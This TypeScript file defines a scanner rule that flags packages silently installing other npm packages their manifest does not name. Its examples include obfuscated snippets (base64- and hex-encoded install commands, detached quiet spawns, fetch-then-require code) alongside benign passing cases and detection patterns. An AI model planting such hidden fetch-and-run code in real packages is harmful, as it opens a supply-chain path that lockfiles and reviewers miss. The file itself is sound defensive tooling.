import { isUnasked } from '../src/define/unasked.js';
import { defineRule, spelling, step, stepsOf } from '../src/define.js';
import type { Call, FileContext, ShellCommand } from '../src/types.js';
import { packageFetched } from '../src/vocabulary/installing.js';

export default defineRule({
  meta: {
    summary: 'Installs another package that its manifest does not name',
    why: 'What a manifest does not name, no lockfile pins and no reviewer sees: a package that fetches another one when it is loaded can be harmless itself (2022, 2025). Scaffolders and doctors install what their user asks for, bundlers what a project’s settings name, and installers of platform binaries what is called after them; none of them hides the name, or does it because it was loaded.',
    behaviour: 'execution',
    messages: {
      hidden: 'Has {manager} fetch {name}, by a command that it hides',
      loaded: 'Has {manager} fetch {name} as soon as it is {moment}, and loads it',
      quiet: 'Has {manager} fetch {name} as soon as it is {moment}, and leaves no trace of that',
      unasked: 'Has {manager} fetch {name} as soon as it is {moment}',
      hooked: 'Has {manager} fetch {name} while it is being installed',
    },
    bits: { hidden: 13.5, loaded: 10.5, quiet: 9.5, unasked: 6, hooked: 4 },
  },
  examples: {
    flags: [
      {
        title: 'the command is encoded',
        code: `const { execSync } = require('child_process');\nexports.pad = text => ' ' + text;\nexecSync(Buffer.from('bnBtIGkgb3RoZXItY2xpZW50IC0tbm8tc2F2ZQ==', 'base64').toString(), { stdio: 'ignore' });`,
      },
      {
        title: 'the program and its words are taken out of a text that is decoded',
        code: `const { spawn } = require('child_process');\nconst open = hex => Buffer.from(hex, 'hex').toString();\nconst [program, ...words] = open('6e706d20696e7374616c6c206f746865722d636c69656e74202d2d73696c656e74').split(' ');\nspawn(program, words).on('close', () => require(open('6f746865722d636c69656e74')));`,
      },
      {
        title: 'a package is fetched in a while, and loaded',
        code: `const cp = require('child_process');\nfunction warm() {\n  cp.exec('npm install other-client --no-save', () => require('other-client').start());\n}\nsetTimeout(warm, 1000);`,
      },
      {
        title: 'another one is run from the registry, out of sight',
        code: `require('child_process').spawn('npx', ['-y', 'other-client'], { detached: true, stdio: 'ignore' }).unref();`,
      },
      {
        title: 'and is kept out of the manifest',
        code: `import { execSync } from 'node:child_process';\nconst start = async () => {\n  execSync('pnpm add other-client --no-lockfile --silent');\n};\nawait start();`,
      },
    ],
    passes: [
      {
        title: 'a function installs what its caller names',
        code: `const { execSync } = require('child_process');\nexports.add = names => execSync('npm install --save-dev ' + names.join(' '), { stdio: 'inherit' });`,
      },
      {
        title: 'a function fetches a compiler when it is needed',
        code: `const { execSync } = require('child_process');\nexports.compile = file => {\n  execSync('npm install typescript --no-save');\n  return require('typescript').transpile(file);\n};`,
      },
      {
        title: 'a package fetches its own part for this system',
        files: {
          'package.json':
            '{"name":"swiftcut","version":"1.0.0","scripts":{"postinstall":"node install.js"},"optionalDependencies":{"@swiftcut/linux-x64":"1.0.0"}}',
          'install.js': `const { execSync } = require('child_process');\nexecSync('npm install --no-save --silent @swiftcut/linux-x64@1.0.0');\nrequire('@swiftcut/linux-x64');`,
        },
      },
      {
        title: 'a command of a scaffolder installs a framework',
        files: {
          'package.json': '{"name":"make-app","version":"1.0.0","bin":"cli.js"}',
          'cli.js': `#!/usr/bin/env node\nconst { execSync } = require('child_process');\nexecSync('npm install --silent react react-dom');`,
        },
      },
      {
        title: 'what a project depends on is installed',
        code: `const { execSync } = require('child_process');\nexecSync('npm install --no-save');\nexecSync('npm ci --silent');`,
      },
    ],
  },
  file(context) {
    for (const call of context.calls('process')) {
      const [program, list] = call.args;
      if (!program) continue;
      const commands = context.commandsOf(program, list);
      const found = commands.flatMap(command => foreign(context, command)).at(0);
      if (!found) continue;
      const label = [program, list]
        .flatMap(part => (part ? context.labelsOf(part) : []))
        .find(({ kind }) => kind === 'decoded' || kind === 'decrypted');
      const messageId = messageOf(context, call, found, label !== undefined);
      if (!messageId) continue;
      context.report({
        messageId,
        data: {
          manager: found.command.program,
          name: found.name,
          moment: context.moment === 'install' ? 'installed' : 'loaded',
        },
        chain: [
          ...(label ? stepsOf(label) : []),
          step('sink', `fetches ${found.name} with ${call.name}`, context.file, call.node),
        ],
      });
    }
  },
});

interface Fetched {
  readonly command: ShellCommand;
  readonly name: string;
}

/** Another package that a command fetches, as far as its whole name is known. */
function foreign(context: FileContext, command: ShellCommand): readonly Fetched[] {
  const wished = packageFetched(command);
  const name = wished && /^((?:@[\w.~-]{1,100}\/)?[a-z\d][\w.~-]{0,200})(?:@[^/…]*)?$/i.exec(wished)?.[1];
  return name && !context.isOwnAddress(`npm:${name}`) ? [{ command, name }] : [];
}

function messageOf(
  context: FileContext,
  call: Call,
  { command, name }: Fetched,
  isHidden: boolean,
): string | undefined {
  // Whoever calls a command has asked for what it does, though hardly for what it hides.
  if (isHidden && context.moment !== 'test') return 'hidden';
  if (!isUnasked(context, call.node)) return undefined;
  const isLoaded = context
    .calls('load')
    .some(
      ({ args: [what] }) => what && context.textsOf(what).some(text => text === name || text.startsWith(`${name}/`)),
    );
  if (isLoaded) return 'loaded';
  // Hooks install compilers and hook managers, too, and are quiet since nobody reads what they say.
  if (context.moment === 'install') return 'hooked';
  return isQuiet(context, call, command) ? 'quiet' : 'unasked';
}

/** Options that keep a package out of the manifest, or what is said about it from who looks on. */
const UNSAID = /^(?:--no-save|--no-lockfile|--silent|-s|--quiet|-q|--loglevel[= ]?(?:silent|error)?)$/;

function isQuiet({ file }: FileContext, { node }: Call, { words, silent }: ShellCommand): boolean {
  if (silent || words.some(word => UNSAID.test(word))) return true;
  const written = spelling(file, node).slice(0, 2_000);
  return /\bdetached\s{0,9}:\s{0,9}(?:true|!0)|\bstdio\s{0,9}:\s{0,9}\[?\s{0,9}['"`]ignore/.test(written);
}
